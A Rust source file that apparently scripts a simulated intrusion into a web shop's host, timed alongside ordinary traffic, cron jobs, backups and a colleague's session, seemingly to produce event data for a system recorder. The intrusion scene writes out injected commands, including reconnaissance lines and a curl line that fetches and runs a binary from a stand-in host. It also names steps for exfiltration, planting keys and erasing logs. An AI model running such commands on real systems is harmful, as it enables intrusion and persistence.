//! The story, scene by scene, each at its time: four minutes of a host's ordinary night, in which
//! somebody comes in through its shop.
//!
//! All addresses are of the ranges reserved for documentation, all names below `example`.

use super::{
    host::WWW_DATA,
    scenes::{
        backup,
        colleague::Session,
        entry::{self, Visit},
        foothold::{self, Foothold, Remote},
        root, shell, upkeep, web,
    },
    shop,
    stage::Stage,
};

/// How long it all takes.
const LENGTH_MS: u64 = 226_000;
const SECOND_MS: u64 = 1_000;

/// Plays the whole story.
pub(super) fn play(stage: &mut Stage) {
    recorder_starts(stage);
    ordinary_life(stage);
    intrusion(stage);
    colleague(stage);
}

/// A recorder first tells of what it cannot see in calls.
fn recorder_starts(stage: &mut Stage) {
    stage.container_seen(&shop::notice());
    stage.user_seen(shop::short_id(), 0, "root", "/root");
    stage.user_seen(shop::short_id(), WWW_DATA, "www-data", "/var/www");
}

fn ordinary_life(stage: &mut Stage) {
    every(stage, 400, 2_900, web::page);
    every(stage, 2_150, 7_300, web::order);
    every(stage, 5_700, 41_000, upkeep::knock);
    every(stage, 11_020, 60 * SECOND_MS, |stage, _| upkeep::cron_minute(stage));
    every(stage, 27_330, 64 * SECOND_MS, |stage, _| upkeep::set_clock(stage));
    every(stage, 3_810, 19_000, |stage, _| upkeep::journal(stage));
    stage.at_ms(24_600);
    upkeep::turn_logs(stage);
    stage.at_ms(46_200);
    backup::run(stage, 1_150);
    stage.at_ms(152_900);
    upkeep::update_lists(stage);
}

/// Plays a scene again and again.
fn every(stage: &mut Stage, first_ms: u64, period_ms: u64, mut scene: impl FnMut(&mut Stage, u16)) {
    let times = (first_ms..LENGTH_MS).step_by(period_ms as usize);
    for (number, at_ms) in (0..).zip(times) {
        // Not quite as a clock.
        stage.at_ms(at_ms + at_ms * 7 % 611);
        scene(stage, number);
    }
}

fn intrusion(stage: &mut Stage) {
    let foothold = through_the_shop(stage);
    stage.at_ms(99_600);
    let mut remote = foothold.open_shell(stage);
    over_the_connection(stage, &mut remote);
    // It stays.
    for at_ms in [176_400, 206_400] {
        stage.at_ms(at_ms);
        remote.beat(stage);
    }
}

fn through_the_shop(stage: &mut Stage) -> Foothold {
    stage.at_ms(64_500);
    let mut visit = Visit::begin(stage);
    visit.look(stage, "GET /status.php");
    stage.at_ms(77_000);
    visit.inject(stage, "id; uname -a", |stage, shell| {
        entry::who_am_i(stage, shell);
        entry::what_is_this(stage, shell);
    });
    stage.at_ms(80_300);
    visit.inject(stage, entry::ACCOUNTS, |stage, shell| entry::list_accounts(stage, shell));
    stage.at_ms(84_100);
    visit.inject(stage, "find / -perm -4000 -type f 2>/dev/null", |stage, shell| {
        entry::search_setuid(stage, shell);
    });
    stage.at_ms(89_700);
    visit.inject(stage, "ps aux", |stage, shell| entry::list_processes(stage, shell));
    stage.at_ms(95_200);
    let line = "curl -s http://cdn.example.net:8080/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x";
    let foothold = visit.inject(stage, line, foothold::drop_and_run);
    visit.end(stage);
    foothold
}

fn over_the_connection(stage: &mut Stage, remote: &mut Remote) {
    let acts = [
        (103_900, shell::try_exploit as fn(&mut Stage, &mut Remote)),
        (110_600, shell::search_keys),
        (116_800, shell::exfiltrate),
        (123_300, shell::become_root),
        (125_100, root::read_hashes),
        (129_600, root::plant_job),
        (133_200, root::plant_key),
        (138_700, root::empty_log),
        (141_000, root::try_to_break_out),
        (146_500, root::remove_traces),
    ];
    for (at_ms, act) in acts {
        stage.at_ms(at_ms);
        act(stage, remote);
    }
}

/// At the same time, and not of it.
fn colleague(stage: &mut Stage) {
    stage.at_ms(100_200);
    let session = Session::log_in(stage);
    stage.at_ms(112_400);
    session.look_at_backup(stage);
    stage.at_ms(127_700);
    session.look_at_account(stage);
    stage.at_ms(148_200);
    session.look_at_load(stage);
    stage.at_ms(158_600);
    session.log_out(stage);
}
